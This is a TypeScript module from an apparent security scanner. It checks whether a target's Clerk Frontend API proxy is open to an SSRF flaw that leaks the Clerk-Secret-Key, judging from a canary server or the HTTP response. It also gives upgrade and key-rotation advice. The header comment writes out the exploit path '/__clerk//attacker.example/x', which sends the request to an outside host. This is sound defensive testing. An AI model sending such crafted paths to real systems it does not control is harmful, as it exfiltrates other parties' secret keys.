// preflight.fapi-proxy-ssrf: the target's Frontend API proxy never sends a request (and with it the
// Clerk-Secret-Key it adds) to a host named in the request's path. @clerk/backend 3.0.0–3.2.2 resolved the path
// after the proxy prefix as a URL reference against the FAPI URL (new URL(path, fapiUrl)), so
// /__clerk//attacker.example/x went to attacker.example (GHSA-gjxx-92w9-8v8f); the fix concatenates the two and
// refuses a resolved host other than FAPI's (400 proxy_request_failed). The probe is one GET naming a host that
// is ours: in the embedded stack a local canary server (whose hits are the proof), elsewhere a name under
// .invalid (RFC 6761: never resolves), so even a vulnerable proxy sends the key nowhere; there the verdict is
// judged from the response alone (a vulnerable @clerk/backend proxy answers 502 "Failed to proxy request").
import { describeResponse, type ResponseEvidence } from './evidence.ts';
import type { Verdict } from './verdict.ts';

/** What the canary server answers: a response carrying it came from the canary, not from Clerk. */
export const CANARY_MARKER = 'cgl-ssrf-canary-answered';
/** The crafted path's first segment after the host (not the marker: a redirect may echo the path). */
export const PROBE_SEGMENT = 'cgl-ssrf-probe';

export interface CanaryHits {
  /** Requests the canary received on the probe's path. */
  hits: number;
  /** Whether one of them carried a Clerk-Secret-Key header (its value is never kept). */
  secretKeyHeader: boolean;
}

export interface ProxySsrfFacts {
  /** The proxy's path on the target, e.g. /__clerk. */
  proxyPath: string;
  /** The answer to <proxyPath>/v1/environment: the target proxies FAPI when it is Clerk's environment JSON. */
  control: ResponseEvidence;
  /** The answer to the crafted <proxyPath>//<foreignHost>/…, when sent. */
  crafted?: ResponseEvidence;
  /** The host the crafted path names. */
  foreignHost: string;
  /** The canary's tally (embedded stack); undefined when no canary can be observed (an arbitrary target). */
  canary?: CanaryHits;
}

const isEnvironment = (evidence: ResponseEvidence) =>
  evidence.status === 200 && /"auth_config"|"display_config"/.test(evidence.bodyExcerpt);

export function proxiesFapi(control: ResponseEvidence): boolean {
  return isEnvironment(control);
}

/** A proxy that tried to fetch the named host and failed (the .invalid name never resolves). */
function triedForeignHost(crafted: ResponseEvidence, foreignHost: string): boolean {
  const body = crafted.bodyExcerpt;
  return (
    crafted.status >= 500 &&
    (/Failed to proxy request/i.test(body) ||
      /ENOTFOUND|getaddrinfo|EAI_AGAIN/.test(body) ||
      body.includes(foreignHost))
  );
}

export function judgeFapiProxySsrf(facts: ProxySsrfFacts): Verdict {
  const crafted = facts.crafted;
  const craftedPath = crafted ? new URL(crafted.url).pathname : `${facts.proxyPath}//${facts.foreignHost}/…`;
  const observed = facts.canary !== undefined;
  const base = {
    id: 'preflight.fapi-proxy-ssrf',
    title: `GET ${craftedPath} -> the FAPI proxy calls no host but Clerk's`,
    url: crafted?.url ?? facts.control.url,
    expected: `the proxy forwards to Clerk's Frontend API only (or refuses the path), never to ${facts.foreignHost}${observed ? ' (a local canary server counts requests)' : ' (judged from the response only: no canary is reachable from an arbitrary target)'}`,
    actual: crafted ? describeResponse(crafted) : 'not sent',
  } as const;
  if (!proxiesFapi(facts.control))
    return {
      ...base,
      pass: true,
      fix: '',
      skip: `The target does not proxy Clerk's Frontend API at ${facts.proxyPath} (${facts.proxyPath}/v1/environment: ${describeResponse(facts.control)}): no proxy to probe.`,
    };
  if (!crafted) return { ...base, pass: true, fix: '', skip: 'The crafted request was not answered.' };
  const reached = (facts.canary?.hits ?? 0) > 0 || crafted.bodyExcerpt.includes(CANARY_MARKER);
  const tried = !observed && triedForeignHost(crafted, facts.foreignHost);
  if (!reached && !tried) return { ...base, pass: true, fix: '' };
  const what = reached
    ? `The proxy sent the request to ${facts.foreignHost}${facts.canary?.hits ? ` (the canary received ${facts.canary.hits} request${facts.canary.hits > 1 ? 's' : ''}${facts.canary.secretKeyHeader ? ', with a Clerk-Secret-Key header' : ''})` : ' (the response came from the canary)'}`
    : `The proxy tried to reach ${facts.foreignHost}, the host named in the path (it answered ${crafted.status}, failing to fetch a name that never resolves; judged from the response only)`;
  return {
    ...base,
    actual: `${base.actual}; ${reached ? `reached ${facts.foreignHost}` : `tried ${facts.foreignHost}`}`,
    pass: false,
    fix:
      `${what}: anyone can make it send your Clerk-Secret-Key to their own host (GHSA-gjxx-92w9-8v8f). ` +
      'Upgrade @clerk/backend to 3.2.3 or later (@clerk/express 2.0.7, @clerk/hono 0.1.5, @clerk/fastify 3.1.5), or, ' +
      'in a proxy of your own, build the upstream URL by concatenating the FAPI URL and the path and refuse any other ' +
      'resolved host. Then rotate the secret key (Clerk Dashboard → API keys) and look for double slashes after ' +
      `${facts.proxyPath} in your access logs.`,
  };
}
